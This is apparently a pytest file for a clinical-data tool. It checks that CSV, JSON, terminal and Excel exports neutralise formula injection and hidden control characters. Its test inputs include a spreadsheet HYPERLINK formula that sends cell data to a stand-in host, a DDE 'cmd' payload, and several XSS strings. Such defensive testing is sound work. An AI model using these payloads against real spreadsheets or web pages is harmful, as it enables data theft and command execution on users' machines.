"""Text from names, headers and cells leaves the building as the text it is: nothing that a spreadsheet would run, nothing lost of it."""

import csv
import io
import json
from collections.abc import Callable, Iterator
from datetime import UTC, datetime

import openpyxl
import pytest
import xlsxwriter

from core.board.export import worklist_csv
from core.board.worklist import worklist
from core.facts.fact import Problem
from core.intake.places import visible
from core.intake.reader import Handed, read
from core.layouts.load import bring
from core.layouts.question import Question
from core.ledger.entry import Entry
from core.ledger.plan import UPLOAD
from core.protocol.settings import Settings
from core.reports.as_csv import trajectory_csv
from core.reports.as_json import cohort_json
from core.reports.as_text import cohort_text
from core.reports.formula import NUMBER, STARTERS, formula_safe
from core.reports.graded import grade_file, write_graded
from core.reports.marked import Sheet, marked_workbook
from core.reports.stamped import stamped
from dashboard.audit.export import audit_csv
from tests.core.patient import on, subject

RUN = (
    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
)
SHOWN = (
    "![x](https://evil.example/p.png)",
    "[click](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    ":red[OK] $x^2$ **bold**",
    "&lt;b&gt;",
    "{=1+1}",
    "https://evil.example",
)
RAW = ("\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1")  # only where a cell leaves as it came: a reading takes blanks away
DAY = on(35)


def patient(text: str):
    """A subject with this text wherever a text may stand, its name included."""
    found = subject(text).infused(product=text).ctdna(-6, "positive", assay=text).ctdna(28, "positive", assay=text)
    found = found.pet(28, "CR", reader=text).graded(3, 1, 0).treated(4, "crs", drug=text, unit=text)
    return found.row("infections", onset_on=on(5), organism=text, site=text).row(
        "bedside", assessed_at=f"{on(6)}T08:00", grading_scale=text
    )


def entry(text: str) -> Entry:
    at = datetime(2026, 3, 5, tzinfo=UTC)
    body = {"file": text, "lines": 3, "files": [[text, "0" * 64]], "reason": text, "counts": {}}
    return Entry(1, at, text, UPLOAD, "key", body, "0" * 64)


def of_list(text: str) -> str:
    return worklist_csv(worklist([patient(text).assessed(35)]))


def of_trajectory(text: str) -> str:
    return trajectory_csv(patient(text).assessed(35))


def of_audit(text: str) -> str:
    return audit_csv([entry(text)], {1: (text,)})


CSV: dict[str, Callable[[str], str]] = {"list": of_list, "trajectory": of_trajectory, "audit": of_audit}


def cells_of(written: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(written, newline=""), strict=True):
        yield from row


def runs(cell: str) -> bool:
    return cell.startswith(STARTERS) and not NUMBER.fullmatch(cell)


@pytest.mark.parametrize("text", [*RUN, *SHOWN])
@pytest.mark.parametrize("name", CSV)
def test_no_cell_of_a_csv_file_runs_and_the_text_stands_there_whole(name, text):
    for written in (CSV[name](text), stamped(CSV[name](text), {"ledger_entries": "7", "ledger_head": "abc"})):
        cells = list(cells_of(written))
        assert not [cell for cell in cells if runs(cell)]
        assert formula_safe(text) in cells


@pytest.mark.parametrize("text", [*RUN, *SHOWN, *RAW])
def test_a_text_a_spreadsheet_would_run_has_a_mark_before_it_and_every_other_is_as_it_was(text):
    assert formula_safe(text) == (text if text in SHOWN else f"'{text}")


@pytest.mark.parametrize("number", ["-1", "+1", "-0.5", "+1e5", "-.5"])
def test_a_number_stays_a_number(number):
    assert formula_safe(number) == number


@pytest.mark.parametrize("text", [*RUN, *SHOWN, *RAW[:1]])
def test_a_graded_file_carries_headers_and_cells_along_as_text(tmp_path, text):
    path = tmp_path / "bedside.csv"
    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows([["crs_before", "temperature", text], ["no", "36.5", text], ["no", text, "x"]])
    stream = io.StringIO(newline="")
    write_graded(grade_file("crs", path), stream)
    cells = list(cells_of(stream.getvalue()))
    assert not [cell for cell in cells if runs(cell)]
    assert [formula_safe(text) in row for row in csv.reader(io.StringIO(stream.getvalue()))] == [True] * 3 or text in RAW


@pytest.mark.parametrize("text", [*RUN, *SHOWN])
def test_the_json_says_the_same_text(text):
    told = cohort_json([patient(text).assessed(35)], DAY, Settings(), [Problem(text, text)], [text])
    read_back = json.loads(json.dumps(told, ensure_ascii=False))
    assert (read_back["subjects"][0]["subject_id"], read_back["notices"]) == (text, [text])
    assert read_back["problems"] == [f"{text}: {text}"]


@pytest.mark.parametrize("text", [*SHOWN, "\x1b[31mred", "a\u202eb", "a\nb", "a\u2028b"])
def test_the_lines_for_a_terminal_show_the_text_and_obey_nothing_in_it(text):
    told = cohort_text([subject().infused().treated(20, "lymphoma", drug=text).assessed(35)], DAY, Settings(), [])
    assert f"new lymphoma therapy, {visible(text)}, " in told
    assert not [sign for sign in told if sign != "\n" and visible(sign) != sign]


@pytest.mark.parametrize("text", [*RUN, *SHOWN, *RAW[:1]])
def test_a_marked_copy_holds_no_formula_and_no_link_but_its_own(text):
    sheet = Sheet(f"{text}.xlsx · {text}", text, [["subject_id", text], [text, 1]], 1, 1, {})
    problems = [Problem(f"{text}.xlsx · {text}!B2", text), Problem(f"{text}.xlsx · {text}", text)]
    book = openpyxl.load_workbook(io.BytesIO(marked_workbook([sheet], problems, "entry 1")))
    cells = [cell for page in book for row in page for cell in row if cell.value is not None]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert not [cell.hyperlink.target for cell in cells if cell.hyperlink and cell.hyperlink.target]
    copied = book.worksheets[1]
    assert (copied["A2"].value, copied["B1"].value, copied["B2"].value) == (text, text, 1)
    assert copied["A2"].quotePrefix == text.startswith(STARTERS)
    assert text in copied["B2"].comment.text


@pytest.mark.parametrize("text", [*RUN, *SHOWN])
def test_a_file_a_sheet_a_header_and_a_cell_are_named_as_they_are(text):
    data = f'subject_id,sex,"{text.replace(chr(34), chr(34) * 2)}"\n"{text.replace(chr(34), chr(34) * 2)}",male,1\n'.encode()
    brought = bring([Handed("subjects.csv", data)], Settings())
    (fact,) = brought.intake.facts
    assert fact.record.subject_id == text
    assert f"subjects.csv · subjects!C1: {text!r} is no column of sheet subjects; not imported" in brought.intake.notices
    (table,) = read(Handed(f"{text}.csv", data))
    assert table.rows[0][2] == text
    assert table.file == visible(f"{text}.csv".replace("\\", "/").rsplit("/", 1)[-1])


ACTING = ("a\u202eb", "z\u200bw", "l\u2028m", "q\nr", "\x1b[31mx")
TABLES = {
    "contract": [
        ["subject_id", "collected_at", "analyte", "value", "unit", "{}"],
        ["S-1", "2026-01-01", "ldh", "{}", "{}", "x"],
        ["S-2", "{}", "{}"],
    ],
    "wide": [["{} list"], ["patient {}", "Date", "Hb (g/dL)", "Hb{}", "{}", "Albumin"], ["S-1", "03/04/2026", "12", "{}", "x", "{}"]],
    "long": [
        ["Patient ID", "Collection date", "Test", "Result", "Unit"],
        ["S-1", "03/04/2026", "LDH", "5", "{}"],
        ["S-1", "03/05/2026", "{}", "{}", "U/L"],
    ],
    "nothing": [["{}", "b"], ["1", "{}"]],
}


def workbook(sheet: str, rows: list[list[str]]) -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        page = book.add_worksheet(sheet)
        for number, row in enumerate(rows):
            for column, text in enumerate(row):
                page.write_string(number, column, text)
    return out.getvalue()


def read_by_people(question: Question) -> Iterator[str]:
    yield from (question.address, question.sentence)
    for way in question.ways:
        yield from (way.words, way.evidence)


@pytest.mark.parametrize("text", ACTING)
@pytest.mark.parametrize("kind", TABLES)
def test_what_is_said_of_a_file_shows_every_sign_that_would_act(kind, text):
    rows = [[cell.replace("{}", text) for cell in row] for row in TABLES[kind]]
    data = workbook("labs" if kind == "contract" else "results", rows)
    found = bring([Handed(f"{text}.xlsx", data)], Settings(), asking=True, today=DAY)
    said = [*found.refused, *found.intake.notices, *map(str, found.intake.problems)]
    said += [words for question in found.questions for words in read_by_people(question)]
    said += [each.address for sheet in found.recognized for each in sheet.columns]
    assert said
    assert [words for words in said if visible(words) != words] == []
